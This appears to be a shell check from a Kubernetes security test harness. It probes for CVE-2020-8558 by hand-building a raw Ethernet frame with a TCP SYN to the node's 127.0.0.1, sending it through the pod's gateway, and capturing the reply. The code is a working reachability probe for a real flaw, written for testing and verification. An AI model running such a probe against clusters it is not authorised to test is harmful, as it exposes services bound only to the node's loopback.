# CVE-2020-8558: does the node behind this pod's interface accept a packet addressed to 127.0.0.1? With
# route_localnet=1 (kube-proxy's localhost NodePorts; kind sets it on every node) a neighbour on the same link can
# reach services bound to the node's loopback, unless a rule drops non-local packets to 127.0.0.0/8 (kubelet's and
# kube-proxy's "block incoming localnet connections"). With the default CAP_NET_RAW the script writes one Ethernet
# frame itself (a packet socket, socat INTERFACE): to the gateway's MAC, IPv4 from this pod's address to
# 127.0.0.1:TARGET_PORT, a TCP SYN — the kernel would never route that destination out of the pod. It captures the
# answer, which comes from 127.0.0.1 (this pod's kernel drops it as martian; the capture still sees it): a SYN-ACK
# (a listener) or a RST (nothing listens, but the node's loopback stack answered) is `connected`; nothing within
# CAPTURE_SECONDS is `timeout`.
bm_require CANARY TARGET_PORT
bm_if=${INTERFACE:-eth0}
bm_seconds=${CAPTURE_SECONDS:-4}
bm_target=127.0.0.1

# bm_field TEXT WORD → BM_FIELD: the word after WORD in TEXT ('' if absent).
bm_field() {
  BM_FIELD=''
  bm_after=${1#*" $2 "}
  if [ "$bm_after" != "$1" ]; then BM_FIELD=${bm_after%%[ /$BM_NL]*}; fi
}
bm_route=$(ip -4 route show default dev "$bm_if" 2>&1)
bm_field " $bm_route " via
bm_gw=$BM_FIELD
bm_addr=$(ip -4 addr show dev "$bm_if" 2>&1)
bm_field " $bm_addr " inet
bm_src=$BM_FIELD
bm_link=$(ip link show dev "$bm_if" 2>&1)
bm_field " $bm_link " link/ether
bm_mac=$BM_FIELD
if [ -z "$bm_gw" ] || [ -z "$bm_src" ] || [ -z "$bm_mac" ]; then
  bm_finish error 1 "no default gateway, IPv4 address or MAC on $bm_if"
fi
# The gateway's MAC: one echo fills the neighbour table (ping needs no capability here).
ping -n -c 1 -W "$BM_CONNECT_TIMEOUT" "$bm_gw" >/dev/null 2>&1
bm_neigh=$(ip neigh show "$bm_gw" dev "$bm_if" 2>&1)
bm_field " $bm_neigh " lladdr
bm_gwmac=$BM_FIELD
if [ -z "$bm_gwmac" ]; then bm_finish unreachable 1 "no neighbour entry for the gateway $bm_gw on $bm_if"; fi

# Bytes are kept as space-separated decimal numbers; bm_sum adds them as big-endian 16-bit words.
bm_ip4_bytes() {
  bm_rest=$1.
  BM_BYTES=''
  while [ -n "$bm_rest" ]; do
    BM_BYTES="$BM_BYTES ${bm_rest%%.*}"
    bm_rest=${bm_rest#*.}
  done
}
bm_mac_bytes() {
  bm_rest=$1:
  BM_BYTES=''
  while [ -n "$bm_rest" ]; do
    BM_BYTES="$BM_BYTES $((0x${bm_rest%%:*}))"
    bm_rest=${bm_rest#*:}
  done
}
bm_sum() {
  BM_SUM=0
  bm_hi=''
  for bm_b in $1; do
    if [ -z "$bm_hi" ]; then bm_hi=$bm_b; else BM_SUM=$((BM_SUM + bm_hi * 256 + bm_b)); bm_hi=''; fi
  done
  if [ -n "$bm_hi" ]; then BM_SUM=$((BM_SUM + bm_hi * 256)); fi
}
# bm_checksum BYTES → BM_CK: the Internet checksum (one's complement of the folded sum).
bm_checksum() {
  bm_sum "$1"
  while [ "$BM_SUM" -gt 65535 ]; do BM_SUM=$(((BM_SUM & 65535) + (BM_SUM >> 16))); done
  BM_CK=$((65535 - BM_SUM))
}

# Source port and sequence number from the canary, so the answer is this attempt's.
bm_hex=${CANARY#bm}
case $bm_hex in *[!0-9a-f]* | '') bm_hex=0123456789abcdef ;; esac
bm_rest=${bm_hex#????}
bm_sport=$((40000 + 0x${bm_hex%"$bm_rest"} % 20000))
bm_rest2=${bm_rest#????????}
bm_seq=$((0x${bm_rest%"$bm_rest2"}))

bm_ip4_bytes "$bm_src"
bm_srcb=$BM_BYTES
bm_ip4_bytes "$bm_target"
bm_dstb=$BM_BYTES
bm_tcp="$((bm_sport >> 8)) $((bm_sport & 255)) $((TARGET_PORT >> 8)) $((TARGET_PORT & 255))"
bm_tcp="$bm_tcp $((bm_seq >> 24 & 255)) $((bm_seq >> 16 & 255)) $((bm_seq >> 8 & 255)) $((bm_seq & 255)) 0 0 0 0 80 2 255 255"
bm_checksum "$bm_srcb $bm_dstb 0 6 0 20 $bm_tcp 0 0 0 0"
bm_tcp="$bm_tcp $((BM_CK >> 8)) $((BM_CK & 255)) 0 0"
bm_ip="69 0 0 40 18 52 64 0 64 6"
bm_checksum "$bm_ip 0 0 $bm_srcb $bm_dstb"
bm_ip="$bm_ip $((BM_CK >> 8)) $((BM_CK & 255)) $bm_srcb $bm_dstb"
bm_mac_bytes "$bm_gwmac"
bm_frame=$BM_BYTES
bm_mac_bytes "$bm_mac"
bm_frame="$bm_frame $BM_BYTES 8 0 $bm_ip $bm_tcp"
bm_fmt=''
for bm_b in $bm_frame; do bm_fmt="$bm_fmt\\$(printf '%03o' "$bm_b")"; done

# bm_send_frame: writes the frame, then prints `BM-SEND <exit> <socat's last message>`.
bm_send_frame() {
  bm_send=$(printf "$bm_fmt" | socat -u - "INTERFACE:$bm_if" 2>&1)
  printf 'BM-SEND %s %s\n' "$?" "${bm_send##*"$BM_NL"}"
}
bm_text=$(bm_capture_then "$bm_seconds" bm_send_frame -i "$bm_if" -nn -l -Z root "tcp and src host $bm_target and src port $TARGET_PORT and dst port $bm_sport")
bm_sent=''
bm_answer=''
bm_failure=''
bm_captured=''
while IFS= read -r bm_l; do
  case $bm_l in
    'BM-SEND '*) bm_sent=${bm_l#BM-SEND } ;;
    'tcpdump: '*) bm_failure=${bm_failure:-$bm_l} ;;
    [0-9]*' packets captured' | [0-9]*' packet captured') bm_captured=${bm_l%% *} ;;
    *"IP $bm_target.$TARGET_PORT > "*'Flags [S.]'*) bm_answer=${bm_answer:-syn-ack} ;;
    *"IP $bm_target.$TARGET_PORT > "*'Flags [R'*) bm_answer=${bm_answer:-reset} ;;
  esac
done <<BM_END
$bm_text
BM_END
if [ -z "$bm_sent" ]; then
  # The capture never opened, so nothing was sent: what tcpdump said is the reading.
  case $bm_failure in
    *'Operation not permitted'* | *'ermission denied'* | *"have permission"*) bm_finish permission-denied 1 "tcpdump could not capture (CAP_NET_RAW needed); no frame was sent" target "$bm_target:$TARGET_PORT" ;;
  esac
  bm_finish error 1 "tcpdump did not open its capture within ${bm_seconds}s, so no frame was sent: ${bm_failure:-no message}" target "$bm_target:$TARGET_PORT"
fi
case $bm_sent in
  0\ *) ;;
  *'socket('*'Operation not permitted'* | *'ermission denied'*) bm_finish permission-denied 1 "packet socket refused (no CAP_NET_RAW)" target "$bm_target:$TARGET_PORT" ;;
  *) bm_finish error 1 "the frame was not sent: ${bm_sent#* }" target "$bm_target:$TARGET_PORT" ;;
esac
case $bm_answer in
  syn-ack) bm_finish connected 0 "the node's 127.0.0.1:$TARGET_PORT accepted a SYN from $bm_src (SYN-ACK)" target "$bm_target:$TARGET_PORT" gateway "$bm_gw" ;;
  reset) bm_finish connected 0 "the node's loopback answered $bm_src with a RST (nothing listens on $TARGET_PORT)" target "$bm_target:$TARGET_PORT" gateway "$bm_gw" ;;
esac
if [ -z "$bm_captured" ]; then
  case $bm_failure in
    *'Operation not permitted'* | *'ermission denied'* | *"have permission"*) bm_finish permission-denied 1 "tcpdump could not capture (CAP_NET_RAW needed)" target "$bm_target:$TARGET_PORT" ;;
  esac
  bm_finish error 1 "tcpdump did not run: ${bm_failure:-no statistics line}" target "$bm_target:$TARGET_PORT"
fi
bm_finish timeout 0 "no answer from the node's 127.0.0.1:$TARGET_PORT within ${bm_seconds}s" target "$bm_target:$TARGET_PORT" gateway "$bm_gw"
